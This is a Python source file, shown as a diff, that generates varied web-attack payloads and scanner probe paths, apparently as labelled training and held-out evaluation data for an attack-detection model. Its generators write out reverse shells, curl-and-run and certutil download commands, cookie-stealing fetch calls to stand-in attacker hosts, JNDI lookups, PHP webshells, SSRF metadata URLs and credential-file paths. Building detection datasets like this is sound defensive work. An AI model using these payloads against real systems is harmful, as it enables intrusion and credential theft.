@@ -1,0 +1,248 @@
+"""Attacks, from a grammar: injection payloads, where they are put, and scanner probes.
+
+A *production* is one way of writing an attack (a UNION-based SQL injection, an
+``<img onerror>`` XSS, an overlong-UTF-8 traversal, a JNDI lookup with nested
+lookups…). Productions are the unit of hold-out: the evaluation split attacks with
+productions training never saw, inside every kind. Each production draws its own
+identifiers, numbers, spacing and case, so no two payloads are alike. Kinds map to the
+model's ``attack_kind`` options: sqli, xss, traversal, cmdi, probe and other
+(template injection, LDAP, XXE, JNDI, NoSQL, SSRF, CRLF).
+"""
+
+from __future__ import annotations
+
+import random
+from collections.abc import Callable
+from dataclasses import dataclass
+
+from models.data.sources import Split, held_out
+
+ATTACK_KINDS = ("sqli", "xss", "traversal", "cmdi", "probe", "other")
+
+Gen = Callable[[random.Random], str]
+
+
+@dataclass(frozen=True, slots=True)
+class Production:
+    """One way of writing an attack of ``kind``; ``where`` lists the placements it suits."""
+
+    id: str
+    kind: str
+    make: Gen
+    where: tuple[str, ...] = ("query", "path", "form", "json", "header")
+
+
+def _mixcase(rng: random.Random, word: str) -> str:
+    return "".join(c.upper() if rng.random() < 0.5 else c.lower() for c in word)
+
+
+def _kw(rng: random.Random, word: str) -> str:
+    """An SQL keyword as tools write it: upper, lower or mixed case."""
+    r = rng.random()
+    return word.upper() if r < 0.5 else word.lower() if r < 0.8 else _mixcase(rng, word)
+
+
+def _sp(rng: random.Random) -> str:
+    """Whitespace between SQL tokens, including the usual filter evasions."""
+    return rng.choice((" ", " ", " ", "/**/", "\t", "+", "%20", "\n"))
+
+
+def _q(rng: random.Random) -> str:
+    return rng.choice(("'", "'", '"', "')", "'))", ""))
+
+
+def _cmt(rng: random.Random) -> str:
+    return rng.choice(("--", "-- -", "--+", "#", "/*", ";--", "%23"))
+
+
+def _n(rng: random.Random) -> str:
+    return str(rng.randint(1, 9999))
+
+
+def _cols(rng: random.Random) -> str:
+    k = rng.randint(1, 8)
+    items = [rng.choice(("NULL", "null", _n(rng), "version()", "@@version", "user()", "database()", "0x7e", "'a'",
+                         "concat(username,0x3a,password)", "table_name", "group_concat(column_name)")) for _ in range(k)]
+    return ",".join(items)
+
+
+def _tbl(rng: random.Random) -> str:
+    return rng.choice(("users", "admin", "accounts", "information_schema.tables", "information_schema.columns", "mysql.user",
+                       "pg_user", "sysobjects", "members", "customers", "wp_users"))
+
+
+def _host(rng: random.Random) -> str:
+    sub = "".join(rng.choice("abcdefghijklmnopqrstuvwxyz0123456789") for _ in range(rng.randint(6, 20)))
+    return rng.choice((f"{sub}.oast.fun", f"{sub}.interact.sh", f"{sub}.burpcollaborator.net", f"{sub}.dnslog.cn",
+                       f"{rng.randint(11, 223)}.{rng.randint(0, 255)}.{rng.randint(0, 255)}.{rng.randint(1, 254)}",
+                       f"{sub}.attacker.tld", f"evil-{sub[:6]}.xyz"))
+
+
+def _jsfn(rng: random.Random) -> str:
+    return rng.choice(("alert(1)", "alert(document.domain)", "alert(document.cookie)", "prompt(1)", "confirm`1`",
+                       f"fetch('//{_host(rng)}/?c='+document.cookie)", "eval(atob('YWxlcnQoMSk='))", "print()",
+                       f"location='//{_host(rng)}'", "alert(String.fromCharCode(88,83,83))"))
+
+
+def _file(rng: random.Random) -> str:
+    return rng.choice(("etc/passwd", "etc/shadow", "etc/hosts", "proc/self/environ", "windows/win.ini", "boot.ini",
+                       "etc/passwd%00", "WEB-INF/web.xml", ".env", "var/log/apache2/access.log", "root/.ssh/id_rsa",
+                       "etc/nginx/nginx.conf", "proc/self/cmdline", "windows/system32/drivers/etc/hosts"))
+
+
+def _unix_cmd(rng: random.Random) -> str:
+    return rng.choice(("id", "whoami", "uname -a", "cat /etc/passwd", "ls -la /", f"curl http://{_host(rng)}/x.sh|sh",
+                       f"wget http://{_host(rng)}/bot -O /tmp/b;chmod +x /tmp/b;/tmp/b", f"ping -c 3 {_host(rng)}",
+                       f"nslookup {_host(rng)}", "sleep 10", f"nc -e /bin/sh {_host(rng)} 4444",
+                       f"bash -i >& /dev/tcp/{_host(rng)}/443 0>&1", "echo cHduZWQ= | base64 -d", "cat${IFS}/etc/passwd"))
+
+
+# ---------------------------------------------------------------------------- productions
+
+SQLI = (
+    Production("sqli.tautology", "sqli", lambda r: f"{r.choice(('', _n(r), 'admin'))}{_q(r)}{_sp(r)}{_kw(r, 'or')}{_sp(r)}{r.choice(('1=1', chr(39) + '1' + chr(39) + '=' + chr(39) + '1', '2>1', 'true', 'x=x', '1'))}{_sp(r)}{_cmt(r)}"),
+    Production("sqli.tautology_quoted", "sqli", lambda r: f"{r.choice(('a', 'x', _n(r)))}' {_kw(r, 'or')} '{r.choice('abcxyz')}'='{r.choice('abcxyz')}"),
+    Production("sqli.admin_comment", "sqli", lambda r: f"{r.choice(('admin', 'root', 'administrator', 'test'))}'{_sp(r)}{_cmt(r)}"),
+    Production("sqli.union", "sqli", lambda r: f"{r.choice(('-' + _n(r), _n(r), ''))}{_q(r)}{_sp(r)}{_kw(r, 'union')}{_sp(r)}{r.choice(('', _kw(r, 'all') + _sp(r)))}{_kw(r, 'select')}{_sp(r)}{_cols(r)}{r.choice(('', _sp(r) + _kw(r, 'from') + _sp(r) + _tbl(r)))}{_sp(r)}{_cmt(r)}"),
+    Production("sqli.union_null_probe", "sqli", lambda r: f"{_n(r)}{_q(r)} {_kw(r, 'union')} {_kw(r, 'select')} {','.join(['NULL'] * r.randint(1, 9))}{_cmt(r)}"),
+    Production("sqli.stacked", "sqli", lambda r: f"{_n(r)}{_q(r)};{_sp(r)}{r.choice((_kw(r, 'drop') + ' ' + _kw(r, 'table') + ' ' + _tbl(r), _kw(r, 'exec') + ' xp_cmdshell(' + chr(39) + 'dir' + chr(39) + ')', _kw(r, 'insert') + ' ' + _kw(r, 'into') + ' ' + _tbl(r) + ' ' + _kw(r, 'values') + '(1,2)', _kw(r, 'update') + ' ' + _tbl(r) + ' ' + _kw(r, 'set') + ' role=' + chr(39) + 'admin' + chr(39), 'shutdown'))}{_cmt(r)}"),
+    Production("sqli.time_mysql", "sqli", lambda r: f"{_n(r)}{_q(r)}{_sp(r)}{_kw(r, r.choice(('and', 'or')))}{_sp(r)}{r.choice(('sleep(' + str(r.randint(2, 15)) + ')', 'SLEEP(' + str(r.randint(2, 15)) + ')', 'benchmark(' + str(r.randint(10**6, 10**7)) + ',md5(1))', '(select*from(select(sleep(' + str(r.randint(2, 9)) + ')))a)'))}{r.choice(('', _cmt(r)))}"),
+    Production("sqli.time_other", "sqli", lambda r: r.choice((f"{_n(r)}'; {_kw(r, 'waitfor')} {_kw(r, 'delay')} '0:0:{r.randint(2, 9)}'--", f"{_n(r)}' {_kw(r, 'and')} 1=(select 1 from pg_sleep({r.randint(2, 9)}))--", f"{_n(r)}) {_kw(r, 'or')} pg_sleep({r.randint(2, 9)})--", f"1' AND 1337=DBMS_PIPE.RECEIVE_MESSAGE(CHR(65),{r.randint(2, 9)})--"))),
+    Production("sqli.error", "sqli", lambda r: f"{_n(r)}{_q(r)}{_sp(r)}{_kw(r, 'and')}{_sp(r)}{r.choice(('extractvalue(1,concat(0x7e,(select version())))', 'updatexml(1,concat(0x7e,user()),1)', '1=convert(int,@@version)', 'exp(~(select*from(select user())x))', 'geometrycollection((select*from(select*from(select user())a)b))', '1=cast((select current_user) as int)'))}{_cmt(r)}"),
+    Production("sqli.blind_boolean", "sqli", lambda r: f"{_n(r)}{_q(r)}{_sp(r)}{_kw(r, 'and')}{_sp(r)}{r.choice(('1=1', '1=2', 'ascii(substring((select password from users limit 1),1,1))>' + str(r.randint(40, 120)), 'length(database())=' + str(r.randint(1, 12)), '(select count(*) from ' + _tbl(r) + ')>0', 'substr(@@version,1,1)=' + chr(39) + '5' + chr(39)))}{_cmt(r)}"),
+    Production("sqli.order_probe", "sqli", lambda r: f"{_n(r)}{_q(r)}{_sp(r)}{_kw(r, r.choice(('order', 'group')))}{_sp(r)}{_kw(r, 'by')}{_sp(r)}{r.randint(1, 30)}{_cmt(r)}"),
+    Production("sqli.hex_inline", "sqli", lambda r: f"{_n(r)}/*!50000{_kw(r, 'union')}*//*!50000{_kw(r, 'select')}*/{_cols(r)}{_cmt(r)}"),
+    Production("sqli.outofband", "sqli", lambda r: r.choice((f"{_n(r)}';declare @q varchar(99);set @q='\\\\{_host(r)}\\a'; exec master.dbo.xp_dirtree @q;--", f"{_n(r)}' {_kw(r, 'union')} {_kw(r, 'select')} load_file(concat('\\\\\\\\',version(),'.{_host(r)}\\\\a'))--", f"{_n(r)}'||(select extractvalue(xmltype('<?xml version=\"1.0\"?><!DOCTYPE r [<!ENTITY % x SYSTEM \"http://{_host(r)}/\">%x;]>'),'/l') from dual)||'"))),
+)
+
+XSS = (
+    Production("xss.script", "xss", lambda r: f"<{_mixcase(r, 'script') if r.random() < 0.3 else 'script'}>{_jsfn(r)}</script>"),
+    Production("xss.script_src", "xss", lambda r: f"<script src={r.choice(('', chr(34)))}//{_host(r)}/{r.choice(('x.js', 'a', 'hook.js'))}{r.choice(('', chr(34)))}></script>"),
+    Production("xss.img_onerror", "xss", lambda r: f"<img src={r.choice(('x', '1', '#', chr(34) + chr(34)))} {r.choice(('onerror', 'OnError', 'onerror '))}={_jsfn(r)}>"),
+    Production("xss.svg_onload", "xss", lambda r: f"<svg{r.choice(('/', ' ', chr(10)))}onload={_jsfn(r)}>"),
+    Production("xss.event_tags", "xss", lambda r: r.choice((f"<body onload={_jsfn(r)}>", f"<details open ontoggle={_jsfn(r)}>", f"<input autofocus onfocus={_jsfn(r)}>", f"<video><source onerror={_jsfn(r)}>", f"<marquee onstart={_jsfn(r)}>", f"<iframe onload={_jsfn(r)}>"))),
+    Production("xss.js_uri", "xss", lambda r: f"{r.choice(('javascript', 'JaVaScRiPt', 'java' + chr(9) + 'script', 'javascript' + chr(58) + '//%0a'))}:{_jsfn(r)}"),
+    Production("xss.attr_break", "xss", lambda r: f"{r.choice((chr(34) + '>', chr(39) + '>', chr(34) + ' ', chr(39) + ' '))}{r.choice(('<script>' + _jsfn(r) + '</script>', 'autofocus onfocus=' + _jsfn(r) + ' x=' + chr(34), 'onmouseover=' + _jsfn(r) + '//', '<svg onload=' + _jsfn(r) + '>'))}"),
+    Production("xss.iframe", "xss", lambda r: f"<iframe src={r.choice(('javascript:' + _jsfn(r), chr(34) + '//' + _host(r) + chr(34), 'data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg=='))}></iframe>"),
+    Production("xss.angular", "xss", lambda r: r.choice(("{{constructor.constructor('alert(1)')()}}", "{{$on.constructor('alert(1)')()}}", "{{'a'.constructor.prototype.charAt=[].join;$eval('x=alert(1)')}}"))),
+    Production("xss.polyglot", "xss", lambda r: "jaVasCript:/*-/*`/*\\`/*'/*\"/**/(/* */oNcliCk=alert() )//%0D%0A%0d%0a//</stYle/</titLe/</teXtarEa/</scRipt/--!>\\x3csVg/<sVg/oNloAd=alert()//>\\x3e"),
+    Production("xss.entity_encoded", "xss", lambda r: r.choice(("<img src=x onerror=&#97;&#108;&#101;&#114;&#116;(1)>", "<a href=\"&#106;avascript:alert(1)\">x</a>", "<svg><script>&#x61;lert(1)</script>", f"<scr<script>ipt>{_jsfn(r)}</scr</script>ipt>"))),
+    Production("xss.style_expr", "xss", lambda r: r.choice(("<div style=\"background:url(javascript:alert(1))\">", "<style>@import'//" + _host(r) + "/x.css';</style>", "<link rel=stylesheet href=//" + _host(r) + "/x.css>", "<object data=javascript:alert(1)>", "<embed src=//" + _host(r) + "/x.swf>"))),
+)
+
+TRAVERSAL = (
+    Production("trav.plain", "traversal", lambda r: f"{'../' * r.randint(3, 9)}{_file(r)}"),
+    Production("trav.encoded", "traversal", lambda r: f"{'..%2f' * r.randint(3, 9)}{_file(r).replace('/', '%2f')}", ("query", "path", "form")),
+    Production("trav.dot_encoded", "traversal", lambda r: f"{'%2e%2e%2f' * r.randint(3, 8)}{_file(r)}", ("query", "path", "form")),
+    Production("trav.double", "traversal", lambda r: f"{'..%252f' * r.randint(3, 8)}{_file(r)}", ("query", "path")),
+    Production("trav.overlong", "traversal", lambda r: f"{r.choice(('..%c0%af', '..%c1%9c', '%c0%ae%c0%ae/', '..%u2216')) * r.randint(3, 8)}{_file(r)}", ("query", "path")),
+    Production("trav.windows", "traversal", lambda r: f"{'..' + chr(92)}{('..' + chr(92)) * r.randint(2, 8)}{r.choice(('windows' + chr(92) + 'win.ini', 'boot.ini', 'windows' + chr(92) + 'system32' + chr(92) + 'config' + chr(92) + 'sam', 'inetpub' + chr(92) + 'wwwroot' + chr(92) + 'web.config'))}"),
+    Production("trav.nested", "traversal", lambda r: f"{r.choice(('....//', '..././', '...//', '.../.../')) * r.randint(3, 7)}{_file(r)}"),
+    Production("trav.absolute", "traversal", lambda r: r.choice((f"/{_file(r)}", f"file:///{_file(r)}", f"/var/www/../../{_file(r)}", f"php://filter/convert.base64-encode/resource={r.choice(('index.php', 'config.php', '../config.php'))}", f"/proc/self/fd/{r.randint(0, 20)}", f"C:{chr(92)}windows{chr(92)}win.ini"))),
+    Production("trav.null_ext", "traversal", lambda r: f"{'../' * r.randint(3, 8)}{_file(r)}%00.{r.choice(('png', 'jpg', 'html', 'pdf'))}", ("query", "path")),
+)
+
+CMDI = (
+    Production("cmdi.semicolon", "cmdi", lambda r: f"{r.choice(('', _n(r), '127.0.0.1', 'x'))};{r.choice(('', ' '))}{_unix_cmd(r)}"),
+    Production("cmdi.pipe", "cmdi", lambda r: f"{r.choice(('', _n(r), 'a'))}{r.choice(('|', '||', ' | '))}{_unix_cmd(r)}"),
+    Production("cmdi.backtick", "cmdi", lambda r: f"{r.choice(('', 'x', _n(r)))}`{_unix_cmd(r)}`"),
+    Production("cmdi.subshell", "cmdi", lambda r: f"{r.choice(('', 'x', _n(r)))}$({_unix_cmd(r)})"),
+    Production("cmdi.and", "cmdi", lambda r: f"{r.choice(('', '127.0.0.1', 'x'))}{r.choice(('&&', '&', ' && '))}{_unix_cmd(r)}"),
+    Production("cmdi.newline", "cmdi", lambda r: f"{r.choice(('', 'x'))}{r.choice(('%0a', '%0d%0a', chr(10)))}{_unix_cmd(r)}"),
+    Production("cmdi.windows", "cmdi", lambda r: r.choice((f"& {r.choice(('whoami', 'ipconfig /all', 'type C:' + chr(92) + 'windows' + chr(92) + 'win.ini', 'net user'))}", f"| powershell -nop -w hidden -enc {''.join(r.choice('ABCDEFGHIJKLMNOPQRSTUVWXYZabcdefghijklmnopqrstuvwxyz0123456789') for _ in range(r.randint(20, 60)))}", f"& certutil -urlcache -split -f http://{_host(r)}/x.exe x.exe & x.exe", f"| cmd.exe /c {r.choice(('dir', 'whoami', 'ver'))}"))),
+    Production("cmdi.ifs", "cmdi", lambda r: r.choice((";cat${IFS}/etc/passwd", "|cat$IFS$9/etc/passwd", ";{cat,/etc/passwd}", f";curl${{IFS}}{_host(r)}", ";w'h'o'am'i", ";/???/??t /???/p??s??"))),
+    Production("cmdi.shellshock", "cmdi", lambda r: f"() {{ :; }}; {r.choice(('echo; /bin/bash -c ' + chr(39) + _unix_cmd(r) + chr(39), '/bin/sleep ' + str(r.randint(5, 20)), 'echo vulnerable'))}", ("header",)),
+)
+
+OTHER = (
+    Production("ssti.jinja", "other", lambda r: r.choice(("{{7*7}}", "{{7*'7'}}", "{{config.items()}}", "{{self.__init__.__globals__.__builtins__.__import__('os').popen('id').read()}}", "{{''.__class__.__mro__[1].__subclasses__()}}", "{% for x in ().__class__.__base__.__subclasses__() %}{% endfor %}", "{{request.application.__globals__.__builtins__.__import__('os').popen('" + _unix_cmd(r) + "').read()}}"))),
+    Production("ssti.expression", "other", lambda r: r.choice(("${7*7}", "#{7*7}", "*{7*7}", "<%= 7*7 %>", "${T(java.lang.Runtime).getRuntime().exec('id')}", "#{T(java.lang.System).getenv()}", "<#assign ex=\"freemarker.template.utility.Execute\"?new()>${ex(\"id\")}", "${{7*7}}", "@(1+2)", "{{= 7*7}}"))),
+    Production("ldap.bypass", "other", lambda r: r.choice(("*)(uid=*))(|(uid=*", "admin)(&)", f"{r.choice(('admin', 'x', '*'))})(|(password=*))", "*))%00", f"{r.choice(('jdoe', 'admin'))})(|(&)")), ),
+    Production("ldap.enumerate", "other", lambda r: r.choice(("*)(|(objectClass=*)", "(|(mail=*)(cn=*))", f"{r.choice(('jdoe', '*'))})(userPassword=*)", "*()|&'", f"*)(memberOf=cn={r.choice(('admins', 'Domain Admins'))}*")), ),
+    Production("xxe.entity", "other", lambda r: f"<?xml version=\"1.0\"?><!DOCTYPE {r.choice(('foo', 'root', 'data'))} [<!ENTITY {r.choice(('xxe', 'x', 'ent'))} SYSTEM \"{r.choice(('file:///' + _file(r), 'http://' + _host(r) + '/x', 'php://filter/read=convert.base64-encode/resource=/etc/passwd', 'expect://id'))}\">]><{r.choice(('foo', 'root', 'data'))}>&{r.choice(('xxe', 'x', 'ent'))};</{r.choice(('foo', 'root', 'data'))}>", ("xml",)),
+    Production("xxe.parameter", "other", lambda r: f"<?xml version=\"1.0\" encoding=\"UTF-8\"?><!DOCTYPE r [<!ENTITY % {r.choice(('dtd', 'remote', 'p'))} SYSTEM \"http://{_host(r)}/evil.dtd\"> %{r.choice(('dtd', 'remote', 'p'))};]><r>1</r>", ("xml",)),
+    Production("jndi.plain", "other", lambda r: f"${{jndi:{r.choice(('ldap', 'ldaps', 'rmi', 'dns', 'iiop', 'nis', 'corba'))}://{_host(r)}{r.choice(('', ':1389', ':443'))}/{r.choice(('a', 'Exploit', 'o=tomcat', _n(r)))}}}"),
+    Production("jndi.nested", "other", lambda r: r.choice((f"${{${{lower:j}}ndi:${{lower:l}}${{lower:d}}a${{lower:p}}://{_host(r)}/a}}", f"${{${{::-j}}${{::-n}}${{::-d}}${{::-i}}:${{::-r}}${{::-m}}${{::-i}}://{_host(r)}/o}}", f"${{${{env:BARFOO:-j}}ndi${{env:BARFOO:-:}}${{env:BARFOO:-l}}dap${{env:BARFOO:-:}}//{_host(r)}/z}}", f"${{jndi:${{lower:l}}${{lower:d}}${{lower:a}}${{lower:p}}://{_host(r)}/c}}", f"${{j${{k8s:k5:-ND}}i:ldap://{_host(r)}/x}}"))),
+    Production("nosql.json", "other", lambda r: r.choice(('{"$ne": null}', '{"$gt": ""}', '{"$where": "sleep(5000)"}', '{"$regex": ".*"}', '{"username": {"$ne": null}, "password": {"$ne": null}}'))),
+    Production("nosql.param", "other", lambda r: r.choice(("[$ne]=1", "';return true;var x='", "[$regex]=.*", "[$gt]=", "';sleep(5000);'", "[$where]=1")), ("query", "form")),
+    Production("ssrf.metadata", "other", lambda r: r.choice(("http://169.254.169.254/latest/meta-data/iam/security-credentials/", "http://metadata.google.internal/computeMetadata/v1/?recursive=true", "http://[::ffff:a9fe:a9fe]/latest/meta-data/", "http://100.100.100.200/latest/meta-data/", "http://169.254.169.254/metadata/instance?api-version=2021-02-01"))),
+    Production("ssrf.internal", "other", lambda r: r.choice(("http://127.0.0.1:2375/containers/json", "gopher://127.0.0.1:6379/_FLUSHALL", "http://0x7f000001/admin", "dict://127.0.0.1:11211/stats", "http://localhost:8500/v1/agent/self", "http://[::1]:6443/api/v1/secrets", "ftp://127.0.0.1:21/"))),
+    Production("crlf.header", "other", lambda r: f"{r.choice(('', '/', 'x'))}%0d%0a{r.choice(('Set-Cookie:%20admin=1', 'Location:%20http://' + _host(r), 'X-Injected:%20true'))}", ("query", "path")),
+    Production("crlf.split", "other", lambda r: f"{r.choice(('', '/', 'x'))}%0d%0a{r.choice(('%0d%0a<script>alert(1)</script>', 'Content-Length:%200%0d%0a%0d%0aHTTP/1.1%20200%20OK', '%0d%0a%3Chtml%3Ehacked%3C/html%3E'))}", ("query", "path")),
+    Production("php.code", "other", lambda r: r.choice(("<?php system($_GET['c']); ?>", "<?=`$_GET[0]`?>", "${@phpinfo()}", "<?php eval(base64_decode($_POST['x'])); ?>", "<?php echo shell_exec($_REQUEST['cmd']); ?>"))),
+    Production("php.wrapper", "other", lambda r: r.choice(("data://text/plain;base64,PD9waHAgc3lzdGVtKCdpZCcpOyA/Pg==", "expect://id", "php://input", "zip://uploads/avatar.jpg%23shell.php", "phar://uploads/x.jpg/test.txt"))),
+    Production("deser.json", "other", lambda r: r.choice(('{"@type":"com.sun.rowset.JdbcRowSetImpl","dataSourceName":"ldap://' + _host(r) + '/x","autoCommit":true}', '{"rce":"_$$ND_FUNC$$_function(){require(\'child_process\').exec(\'id\')}()"}', '["ch.qos.logback.core.db.DriverManagerConnectionSource",{"url":"jdbc:h2:mem:;INIT=RUNSCRIPT FROM \'http://' + _host(r) + '/x.sql\'"}]'))),
+    Production("deser.serialized", "other", lambda r: r.choice(("rO0ABXNyABdqYXZhLnV0aWwuUHJpb3JpdHlRdWV1ZZTaMLT7P4KxAwACSQAEc2l6ZUwACmNvbXBhcmF0b3J0", "!!python/object/apply:os.system ['id']", "O:8:\"stdClass\":1:{s:4:\"test\";s:4:\"exec\";}", "a:2:{i:0;s:4:\"test\";i:1;O:4:\"Evil\":0:{}}", "class.module.classLoader.resources.context.parent.pipeline.first.pattern=%25%7Bc2%7Di"))),
+)
+
+# Paths scanners ask for; a probe is an attack of kind "probe" whatever its method.
+PROBE_PATHS = (
+    ("probe.env", ("/.env", "/.env.local", "/.env.production", "/app/.env", "/api/.env", "/backend/.env", "/laravel/.env")),
+    ("probe.git", ("/.git/config", "/.git/HEAD", "/.git/index", "/.gitlab-ci.yml", "/.svn/entries", "/.hg/hgrc", "/.bzr/branch-format")),
+    ("probe.wordpress", ("/wp-login.php", "/wp-admin/setup-config.php", "/xmlrpc.php", "/wp-content/plugins/wp-file-manager/readme.txt",
+                         "/wp-includes/wlwmanifest.xml", "/wp-json/wp/v2/users", "/wordpress/wp-admin/install.php")),
+    ("probe.php", ("/phpinfo.php", "/info.php", "/phpmyadmin/index.php", "/pma/", "/vendor/phpunit/phpunit/src/Util/PHP/eval-stdin.php",
+                   "/admin/config.php", "/shell.php", "/cmd.php", "/test.php", "/_ignition/execute-solution", "/adminer.php")),
+    ("probe.backup", ("/backup.sql", "/db.sql", "/dump.sql.gz", "/backup.zip", "/site.tar.gz", "/database.sqlite", "/www.zip",
+                      "/config.php.bak", "/web.config.old", "/.DS_Store", "/wp-config.php~")),
+    ("probe.cloud", ("/.aws/credentials", "/.docker/config.json", "/config.json", "/credentials.json", "/.kube/config",
+                     "/secrets.yml", "/.npmrc", "/.vscode/sftp.json", "/sftp-config.json", "/.ssh/id_rsa")),
+    ("probe.java", ("/actuator/env", "/actuator/heapdump", "/actuator/gateway/routes", "/manager/html", "/jmx-console/",
+                    "/solr/admin/info/system", "/console/login/LoginForm.jsp", "/struts2-showcase/", "/invoker/JMXInvokerServlet")),
+    ("probe.devices", ("/cgi-bin/luci", "/boaform/admin/formLogin", "/HNAP1/", "/GponForm/diag_Form?images/", "/cgi-bin/;cd${IFS}/tmp",
+                       "/setup.cgi?next_file=netgear.cfg", "/goform/setup_wizard", "/shell?cd+/tmp", "/tmUnblock.cgi")),
+    ("probe.ops", ("/server-status", "/server-info", "/nginx_status", "/debug/pprof/", "/metrics", "/telescope/requests",
+                   "/horizon/api/stats", "/_profiler/phpinfo", "/elmah.axd", "/trace.axd", "/.well-known/security.txt.bak")),
+    ("probe.exchange", ("/owa/auth/logon.aspx", "/autodiscover/autodiscover.xml", "/ecp/default.flt", "/mapi/nspi/",
+                        "/remote/fgt_lang?lang=/../../../..//////////dev/cmdb/sslvpn_websession", "/vpn/../vpns/cfg/smb.conf",
+                        "/dana-na/../dana/html5acc/guacamole/../../../../../../etc/passwd?/dana/html5acc/guacamole/")),
+    ("probe.api", ("/api/v1/pods", "/containers/json", "/v2/_catalog", "/api/swagger.json", "/swagger-ui.html", "/graphql?query={__schema{types{name}}}",
+                   "/api/jsonws/invoke", "/druid/index.html", "/api/v1/namespaces/default/secrets", "/.well-known/openid-configuration/../../admin")),
+)
+
+PRODUCTIONS: tuple[Production, ...] = SQLI + XSS + TRAVERSAL + CMDI + OTHER
+
+
+def family(production: Production) -> str:
+    """The attack family of a production (sqli, xss, trav, cmdi, ssti, ldap, xxe, jndi, …)."""
+    return production.id.split(".", 1)[0]
+
+
+def _assign(items: tuple[Production, ...]) -> dict[str, tuple[Production, ...]]:
+    """Productions per split; every family keeps at least one production on each side.
+
+    So the evaluation split meets every *family* (SQL, XSS, LDAP, JNDI…) but, within
+    it, only ways of writing the attack that training never saw.
+    """
+    sides: dict[str, list[Production]] = {"train": [], "eval": []}
+    for fam in dict.fromkeys(family(p) for p in items):
+        members = [p for p in items if family(p) == fam]
+        if not members:
+            continue
+        ev = [p for p in members if held_out("payload", p.id)]
+        tr = [p for p in members if p not in ev]
+        if not ev:
+            ev, tr = [tr[-1]], tr[:-1]
+        if not tr:
+            tr, ev = [ev[0]], ev[1:]
+        sides["train"] += tr
+        sides["eval"] += ev
+    return {k: tuple(v) for k, v in sides.items()}
+
+
+_SIDES = _assign(PRODUCTIONS)
+
+
+def productions(split: Split, kind: str | None = None) -> tuple[Production, ...]:
+    """Payload productions of one split (and kind)."""
+    return tuple(p for p in _SIDES[split] if kind is None or p.kind == kind)
+
+
+def probe_paths(split: Split) -> tuple[str, ...]:
+    """Scanner probe paths of one split: the families split, then paths within each family."""
+    out: list[str] = []
+    for family, paths in PROBE_PATHS:
+        for path in paths:
+            if held_out("probe", f"{family}:{path}") == (split == "eval"):
+                out.append(path)
+    return tuple(out)
